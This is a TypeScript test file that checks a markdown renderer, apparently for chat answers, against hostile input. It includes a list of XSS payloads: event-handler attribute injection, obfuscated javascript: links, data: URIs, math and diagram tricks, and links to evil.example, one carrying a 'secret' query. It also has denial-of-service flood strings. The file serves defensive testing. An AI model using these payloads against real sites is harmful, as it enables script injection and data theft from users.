import { beforeAll, describe, expect, test } from 'vitest'
import { loadParts } from './testing/load-parts'
import { createRandom, hostileMarkdown } from './testing/hostile-markdown'
import { forbiddenMarkup } from './testing/allowed-markup'
import { markdownMarkup } from './testing/markdown-markup'

const attacks = [
  '![" onerror=alert(1) x="](https://evil.example/x.png)',
  '![" onerror=x](data:image/png;base64,AAAA" onerror="alert(1))',
  '![a" onload="alert(1)](https://evil.example/x.png "t\\" onclick=\\"x")',
  '![a](data:image/svg+xml;base64,PHN2Zz4=) ![b](data:image/png,x) ![c](data:text/html;base64,AAAA)',
  '<img src=x onerror=alert(1)> and <script>alert(1)</script>',
  '<svg onload=alert(1)>\n\n<iframe src="https://evil.example"></iframe>\n\n<style>*{}</style>',
  '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,x) [d](vbscript:x)',
  '[a](java&#x0A;script:alert(1)) [b](&#106;avascript:alert(1)) [c](\\javascript:alert(1))',
  '[a](< javascript:alert(1)>) [b](//evil.example) [c](/api/chats) [d](file:///etc/passwd) [e](blob:x)',
  '[e]\n\n[e]: javascript:alert(1)\n\n<javascript:alert(1)>',
  '![f]\n\n![g][f] ![][f]\n\n[f]: https://evil.example/?q=secret "t"',
  '[![a](https://evil.example/x.png)](https://evil.example/y)[^1]\n\n[^1]: ![b](https://evil.example/z)',
  '[^" onclick="x]\n\n[^" onclick="x]: <b>note</b>',
  '```html" onclick="x\n<b>\n```\n\n`<img onerror=x>`',
  '$$\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/x.png}$$',
  '$\\htmlData{a=b}{x}\\htmlStyle{background:url(https://evil.example)}{x}\\url{javascript:x}$',
  '```mermaid\ngraph TD\nA[<img src=x onerror=x>]\nclick A "javascript:alert(1)"\n```',
  '| <b onmouseover=x> |\n| - |\n| ![](https://evil.example/x.png) |',
  '- [x] <input onfocus=x autofocus>\n- [ ] ![a](https://evil.example/x.png)',
  '# <a href="javascript:x">\n\n> <form action="https://evil.example"><button formaction=x>',
  'www.evil.example/<script> https://evil.example/"onclick="x a@evil.example',
]

beforeAll(loadParts)

describe('a hostile answer', () => {
  test.each(attacks)('has nothing but what is allowed in any frame of %j', (attack) => {
    for (let length = 1; length <= attack.length; length += 1)
      expect(forbiddenMarkup(markdownMarkup(attack.slice(0, length), true))).toEqual([])
    expect(forbiddenMarkup(markdownMarkup(attack))).toEqual([])
  })

  test('has nothing but what is allowed, whatever it is put together from', () => {
    const random = createRandom(1)
    for (let count = 0; count < 300; count += 1) {
      const text = hostileMarkdown(random, 60)
      const cut = Math.floor(random() * text.length)
      for (const markup of [markdownMarkup(text.slice(0, cut), true), markdownMarkup(text)])
        expect(forbiddenMarkup(markup), text).toEqual([])
    }
  })

  test('is parsed and rendered in 50 ms', () => {
    const random = createRandom(2)
    for (let count = 0; count < 100; count += 1) {
      const text = hostileMarkdown(random, 200)
      expect(
        fastestOf(3, () => markdownMarkup(`${text} `)),
        text,
      ).toBeLessThan(50)
    }
  })

  const floods: Record<string, string> = {
    'opening brackets': '['.repeat(20_000),
    'images of images': '!['.repeat(10_000),
    'links of links': '[a]('.repeat(5_000),
    emphasis: '*a **b _c '.repeat(2_000),
    'closing emphasis': `${'*'.repeat(5_000)}a${'*'.repeat(5_000)}`,
    quotes: '>'.repeat(10_000),
    'nested lists': Array.from({ length: 200 }, (_, depth) => `${' '.repeat(2 * depth)}- a`).join(
      '\n',
    ),
    'markers of lists': '- '.repeat(5_000),
    ticks: Array.from({ length: 200 }, (_, length) => '`'.repeat(length)).join(' a '),
    entities: '&'.repeat(20_000),
    'angle brackets': '<'.repeat(20_000),
    comments: '<!--'.repeat(5_000),
    dollars: '$'.repeat(20_001),
    footnotes: '[^a]'.repeat(2_000),
    'delimiter rows': `${'|a'.repeat(1_000)}|\n${'|-'.repeat(1_000)}|\n${'|b\n'.repeat(500)}`,
  }

  test.each(Object.entries(floods))('does not hold the page by %s', (_name, flood) => {
    const render = (again: number) => markdownMarkup(`${flood}\n\n${again}`)
    expect(fastestOf(4, render)).toBeLessThan(200)
    expect(forbiddenMarkup(render(0))).toEqual([])
  })
})

/** The time of the fastest try, in ms: what else the machine does is not what is measured. No try is of the same text. */
function fastestOf(tries: number, run: (again: number) => unknown): number {
  const times = Array.from({ length: tries }, (_, again) => {
    const start = performance.now()
    run(again)
    return performance.now() - start
  })
  return Math.min(...times)
}
